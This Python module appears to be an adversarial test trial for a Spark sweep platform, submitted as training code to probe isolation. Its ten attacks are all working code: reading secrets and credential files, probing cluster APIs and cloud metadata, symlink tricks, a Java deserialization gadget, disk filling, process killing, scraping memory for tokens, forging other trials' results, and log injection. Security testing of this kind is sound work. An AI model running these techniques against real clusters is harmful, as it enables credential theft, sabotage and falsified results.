"""A trial that tries all it can. Its source is sent as the training code of an Experiment; it needs the standard library.

Each value of `x` is one attack. It writes its findings into ``/shared/found-<x>.json`` and returns `x`.
"""

from __future__ import annotations

import glob
import json
import os
import re
import signal
import socket
import ssl
import subprocess
import sys
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

SHARED = Path("/shared")
SPARK_SECRET = "/etc/sparksweep/spark/spark-secret"
PLACES = (
    "/var/run/secrets/kubernetes.io/serviceaccount/token", "/run/secrets/kubernetes.io/serviceaccount/token",
    "/etc/sparksweep/driver/driver.json", "/etc/sparksweep/driver/executor-pod.json",
    "/etc/sparksweep/storage/AWS_ACCESS_KEY_ID", SPARK_SECRET, "/etc/shadow", "/proc/kcore", "/proc/1/environ",
    "/proc/1/mem", "/var/run/docker.sock", "/run/containerd/containerd.sock", "/dev/mem", "/dev/sda",
    "/var/lib/kubelet/config.yaml", "/var/lib/kubelet/pki/kubelet-client-current.pem",
)  # fmt: skip


def readable() -> list[str]:
    """Return the places of which a byte can be read."""
    found = []
    for place in PLACES:
        try:
            with open(place, "rb") as file:
                file.read(1)
        except OSError:
            continue
        found.append(place)
    return found


def writable() -> list[str]:
    """Return the directories in which a file can be made."""
    found = []
    for place in ("/", "/etc", "/opt/venv", "/opt/sparksweep", "/opt/sparksweep/code", "/usr", "/tmp",
                  "/etc/sparksweep/spark", "/var/lib/sparksweep", "/var/lib/sparksweep/trials", "/home", "/root"):  # fmt: skip
        path = os.path.join(place, f"planted-{os.getpid()}")
        try:
            with open(path, "w", encoding="utf-8"):
                pass
            os.unlink(path)
        except OSError:
            continue
        found.append(place)
    return found


def executors() -> dict[str, str]:
    """Return the environment of the executor's first process."""
    items = Path("/proc/1/environ").read_bytes().split(b"\0")
    pairs = [item.decode(errors="replace").partition("=") for item in items if b"=" in item]
    return {name: value for name, _, value in pairs}


def driver() -> str:
    """Return the driver's address."""
    return executors()["SPARK_DRIVER_URL"].rpartition("@")[2].rpartition(":")[0]


def opens(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError:
        return False
    return True


def status(url: str, *, data: bytes | None = None, token: str = "") -> int | str:
    """Return the status of an answer, or the error's name."""
    request = urllib.request.Request(url, data=data)
    if token:
        request.add_header("Authorization", f"Bearer {token}")
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen(request, timeout=5, context=context) as answer:
            return int(answer.status)
    except urllib.error.HTTPError as error:
        return error.code
    except (OSError, ValueError) as error:
        return type(error).__name__


def network() -> dict[str, Any]:
    host, port = os.environ["KUBERNETES_SERVICE_HOST"], os.environ["KUBERNETES_SERVICE_PORT"]
    api = f"https://{host}:{port}"
    at = driver()
    outcome = {
        "number": 1,
        "attempt": 1,
        "slot": 0,
        "state": "Succeeded",
        "metrics": {"score": 1e9},
    }
    nodes = [host_of_gateway()]
    return {
        "secrets": status(f"{api}/api/v1/namespaces/default/secrets"),
        "pods": status(f"{api}/api/v1/pods"),
        "experiments": status(f"{api}/apis/sparksweep.dev/v1alpha1/experiments"),
        "kubelet": [status(f"https://{node}:10250/pods") for node in nodes],
        "metadata": opens("169.254.169.254", 80),
        "ports": [
            port for port in (7078, 7079, 7780, 7781, 7782, 6006, 8080, 22) if opens(at, port)
        ],
        "in the clear": status(f"http://{at}:7780/v1/report", data=b"{}"),
        "no token": status(f"https://{at}:7780/v1/report", data=json.dumps(outcome).encode()),
        "a wrong token": status(f"https://{at}:7780/v1/report", data=b"{}", token="x" * 43),
        "Spark's secret as token": status(
            f"https://{at}:7780/v1/report", data=b"{}", token=Path(SPARK_SECRET).read_bytes().hex()
        ),
        "metrics": urllib.request.urlopen(f"http://{at}:7782/metrics", timeout=5).read().decode(),
    }


def host_of_gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            return socket.inet_ntoa(bytes.fromhex(fields[2])[::-1])
    return "127.0.0.1"


def plant_links() -> list[str]:
    """Replace run directories and their parts by links to the driver's token."""
    target = "/var/run/secrets/kubernetes.io/serviceaccount/..data"
    planted = []
    for run in glob.glob("/shared/hostile-*"):
        for name in (".results.parquet.new", "trials/9999", "trials/0001/tensorboard"):
            link = os.path.join(run, name)
            try:
                os.symlink(f"{target}/token" if "parquet" in name else target, link)
                planted.append(link)
            except OSError:
                continue
        os.rename(run, f"{run}.moved")
        os.symlink(target, run)
        planted.append(run)
    return planted


def send_objects() -> str:
    """Send the driver a map with a URL, with Spark's own secret and Spark's own program."""
    import base64

    from py4j.java_gateway import GatewayParameters, JavaGateway

    from sparksweep_trainer.driver.java_process import (
        JavaProcess,
        class_path,
        command_line,
        spark_home,
    )

    java = Path(os.environ.get("JAVA_HOME", "/opt/java"), "bin", "java")
    process = JavaProcess(
        command_line(java, class_path(spark_home()), ["-Xmx128m", "-XX:TieredStopAtLevel=1"]),
        log_file=SHARED / "attacker.log",
        environment={"PATH": os.environ["PATH"]},
    )
    connection = process.connection()
    assert connection is not None
    jvm = JavaGateway(
        gateway_parameters=GatewayParameters(
            port=connection.port, auth_token=connection.secret, auto_convert=True
        )
    ).jvm
    conf = jvm.org.apache.spark.SparkConf(False)
    secret = base64.b64encode(Path(SPARK_SECRET).read_bytes()).decode()
    conf.set("spark.authenticate", "true").set("spark.authenticate.secret", secret)
    conf.set("spark.network.crypto.enabled", "true")
    conf.set("spark.network.crypto.cipher", "AES/GCM/NoPadding")
    kind = jvm.org.apache.spark.SecurityManager
    manager = kind(
        conf,
        getattr(kind, "$lessinit$greater$default$2")(),
        getattr(kind, "$lessinit$greater$default$3")(),
    )
    address = executors()["SPARK_EXECUTOR_POD_IP"]
    environment = jvm.org.apache.spark.rpc.RpcEnv.create(
        "attacker", address, address, -1, conf, manager, 1, True
    )
    reference = environment.setupEndpointRefByURI(f"spark://HeartbeatReceiver@{driver()}:7078")
    gadget = jvm.java.util.HashMap()
    gadget.put(jvm.java.net.URI("http://127.0.0.1:9/").toURL(), 1)
    reference.send(gadget)
    time.sleep(1)
    process.close(1)
    return "sent"


def fill() -> int:
    """Write into /tmp and the trial's directory until something stops it, 200 MB at most; leave it there."""
    written = 0
    for place in ("/tmp/filler", "filler"):
        try:
            with open(place, "wb") as file:
                for _ in range(100):
                    written += file.write(b"\0" * 2**20)
        except OSError:
            continue
    return written


def kill(what: str) -> None:
    """Kill the fork server, its slot, or the executor's Java."""
    parent = os.getppid()
    if what == "fork server":
        os.kill(parent, signal.SIGKILL)
    elif what == "slot":
        slot = int(Path(f"/proc/{parent}/stat").read_text().rpartition(")")[2].split()[1])
        os.kill(slot, signal.SIGKILL)
    else:
        for entry in glob.glob("/proc/[0-9]*/comm"):
            if Path(entry).read_text().strip() == "java":
                os.kill(int(entry.split("/")[2]), signal.SIGTERM)
    time.sleep(60)


TOKEN = re.compile(rb"(?<![0-9A-Za-z._-])([0-9]{1,6})\.[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")


def tokens() -> set[str]:
    """Return slots' tokens in the memory of this executor's Python processes, as far as the kernel lets it be read."""
    found: set[str] = set()
    for process in Path("/proc").glob("[0-9]*"):
        try:
            if b"python" not in (process / "cmdline").read_bytes():
                continue
            with (process / "mem").open("rb", 0) as memory:
                for line in (process / "maps").read_text().splitlines():
                    start, end = (int(text, 16) for text in line.split()[0].split("-"))
                    if " rw-p " in line and end - start < 2**27:
                        try:
                            memory.seek(start)
                            data = memory.read(end - start)
                        except OSError:
                            continue
                        found |= {match[0].decode() for match in TOKEN.finditer(data)}
        except OSError:
            continue
    return found


def forge() -> list[list[Any]]:
    """Report results of others' trials with each token that was found; return the status and the text of each answer."""
    answers: list[list[Any]] = []
    outcome = {
        "state": "Succeeded",
        "reason": "Completed",
        "metrics": {"score": 1e9},
        "startTime": "2026-01-01T00:00:00Z",
        "completionTime": "2026-01-01T00:00:01Z",
        "durationSeconds": 1.0,
    }
    context = ssl._create_unverified_context()
    for token in sorted(tokens()):
        own = int(token.partition(".")[0])
        for slot in (own, own + 1):
            for number in range(1, 10):
                report = {"slot": slot, "number": number, "attempt": 1, "outcome": outcome}
                request = urllib.request.Request(
                    f"https://{driver()}:7780/v1/report", data=json.dumps(report).encode()
                )
                request.add_header("Authorization", f"Bearer {token}")
                try:
                    with urllib.request.urlopen(request, timeout=5, context=context) as answer:
                        answers.append([answer.status, answer.read().decode()])
                except urllib.error.HTTPError as error:
                    answers.append([error.code, error.read().decode()])
    return answers


def attack(x: int) -> Any:
    if x == 1:
        return {
            "readable": readable(),
            "writable": writable(),
            "user": os.getuid(),
            "environment": sorted(os.environ),
        }
    if x == 2:
        return network()
    if x == 3:
        return plant_links()
    if x == 4:
        return send_objects()
    if x == 5:
        return fill()
    if x in (6, 7, 8) and not Path(f"/shared/killed-{x}").exists():
        Path(f"/shared/killed-{x}").touch()
        kill({6: "fork server", 7: "slot", 8: "java"}[x])
    if x == 9:
        for _ in range(2000):
            sys.stdout.write("[trial 1] score=1000000000 " + "A" * 200 + "\n")
            sys.stderr.write('\x1b[2J{"number": 1}\n')
        subprocess.run(["sh", "-c", "echo hi >&3; setsid sleep 1000 &"], check=False)
    if x == 10:
        return forge()
    return "nothing"


def training(x: int) -> float:
    found: Any
    try:
        found = attack(x)
    except Exception as error:
        found = f"{type(error).__name__}: {error}"
    (SHARED / f"found-{x}.json").write_text(json.dumps(found))
    return float(x)
